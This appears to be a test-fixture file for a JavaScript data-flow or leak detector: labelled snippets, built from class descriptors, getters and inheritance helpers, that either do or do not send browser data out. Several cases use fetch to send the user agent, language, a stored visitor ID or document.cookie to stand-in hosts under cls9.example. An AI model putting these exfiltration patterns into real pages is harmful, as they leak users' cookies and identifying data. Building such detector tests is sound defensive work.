//# methods of a class in descriptions, as compilers write them
// flow: device > desc.cls9.example via fetch
function defineAll(t, list) { for (var i = 0; i < list.length; i++) { var d = list[i]; d.configurable = true; Object.defineProperty(t, d.key, d); } }
function makeClass(c, own, all) { return own && defineAll(c.prototype, own), all && defineAll(c, all), c; }
var Sender = (function () {
  function Sender(url) { this.url = url; }
  return makeClass(Sender, [{ key: 'send', value: function (d) { fetch(this.url, { method: 'POST', body: d }); } }]);
})();
new Sender('https://desc.cls9.example/').send(navigator.userAgent);

//# a method of that name in the descriptions of another class
// no flow
// why: the sending class's method is not the one that is called
function defineAll(t, list) { for (var i = 0; i < list.length; i++) Object.defineProperty(t, list[i].key, list[i]); }
function makeClass(c, own) { return defineAll(c.prototype, own), c; }
var Loud = makeClass(function () {}, [{ key: 'put', value: function (d) { fetch('https://loud.cls9.example/', { method: 'POST', body: d }); } }]);
var Quiet = makeClass(function () {}, [{ key: 'put', value: function (d) { this.kept = d; } }]);
new Loud().put('hello');
new Quiet().put(navigator.userAgent);

//# a getter of instances in a description
// flow: device > get.cls9.example via fetch
function defineAll(t, list) { for (var i = 0; i < list.length; i++) Object.defineProperty(t, list[i].key, list[i]); }
function makeClass(c, own) { return defineAll(c.prototype, own), c; }
var Traits = makeClass(function Traits() {}, [{ key: 'agent', get: function () { return navigator.userAgent; } }]);
var traits = new Traits();
fetch('https://get.cls9.example/?ua=' + traits.agent);

//# another getter of the same class
// no flow
// why: what the getter returns that is read is a constant
function defineAll(t, list) { for (var i = 0; i < list.length; i++) Object.defineProperty(t, list[i].key, list[i]); }
function makeClass(c, own) { return defineAll(c.prototype, own), c; }
var Facts = makeClass(function Facts() {}, [
  { key: 'agent', get: function () { return navigator.userAgent; } },
  { key: 'version', get: function () { return '3.1'; } },
]);
fetch('https://other.cls9.example/?v=' + new Facts().version);

//# a static method in a description makes the instance
// flow: identifier > stat.cls9.example via fetch
function defineAll(t, list) { for (var i = 0; i < list.length; i++) Object.defineProperty(t, list[i].key, list[i]); }
function makeClass(c, own, all) { return own && defineAll(c.prototype, own), all && defineAll(c, all), c; }
var Client = (function () {
  function Client(id) { this.id = id; }
  return makeClass(Client, [{ key: 'report', value: function () { fetch('https://stat.cls9.example/?id=' + this.id); } }],
    [{ key: 'from', value: function (store) { return new Client(store.getItem('visitor_id')); } }]);
})();
Client.from(localStorage).report();

//# a getter defined on a function
// flow: device > fn.cls9.example via fetch
var Info = (function () {
  function Info() {}
  return Object.defineProperty(Info, 'OS', { get: function () { return navigator.userAgent.replace(/,/g, '.'); } }), Info;
})();
fetch('https://fn.cls9.example/?os=' + Info.OS);

//# a getter defined on another function
// no flow
// why: the object that is read has a constant under that name
function One() {}
function Two() {}
Object.defineProperty(One, 'OS', { get: function () { return navigator.userAgent; } });
Object.defineProperty(Two, 'OS', { get: function () { return 'unknown'; } });
fetch('https://two.cls9.example/?os=' + Two.OS);

//# properties defined together on a prototype
// flow: device > props.cls9.example via fetch
function Device() {}
Object.defineProperties(Device.prototype, { lang: { get: function () { return navigator.language; } }, size: { value: 3 } });
fetch('https://props.cls9.example/?l=' + new Device().lang);

//# inheritance by a compiler's helper
// flow: device > ext.cls9.example via fetch
var __extends = (function () {
  var set = function (d, b) { set = Object.setPrototypeOf || function (d, b) { d.__proto__ = b; }; return set(d, b); };
  return function (d, b) {
    set(d, b);
    function __() { this.constructor = d; }
    d.prototype = b === null ? Object.create(b) : (__.prototype = b.prototype, new __());
  };
})();
var Base = (function () {
  function Base(options) { this.options = options; }
  Base.prototype.send = function (d) { fetch(this.options.url, { method: 'POST', body: d }); };
  return Base;
})();
var Sub = (function (_super) {
  __extends(Sub, _super);
  function Sub(options) { return _super.call(this, options) || this; }
  Sub.prototype.go = function () { this.send(navigator.userAgent); };
  return Sub;
})(Base);
new Sub({ url: 'https://ext.cls9.example/' }).go();

//# the overriding method of a constructor that extends another
// no flow
// why: the method of the parent that sends is overridden by one that does not
function inherit(sub, base) { sub.prototype = Object.create(base.prototype, { constructor: { value: sub } }); }
function Parent() {}
Parent.prototype.emit = function (d) { fetch('https://par.cls9.example/', { method: 'POST', body: d }); };
function Child() {}
inherit(Child, Parent);
Child.prototype.emit = function (d) { this.last = d; };
new Child().emit(navigator.userAgent);
new Parent().emit('started');

//# a template method that the extending constructor fills in
// flow: identifier > tmpl.cls9.example via fetch
function inherit(sub, base) { sub.prototype = Object.create(base.prototype, { constructor: { value: sub } }); }
function Plugin() {}
Plugin.prototype.run = function () { fetch('https://tmpl.cls9.example/?d=' + this.collect()); };
function CookiePlugin() {}
inherit(CookiePlugin, Plugin);
CookiePlugin.prototype.collect = function () { return document.cookie; };
new CookiePlugin().run();
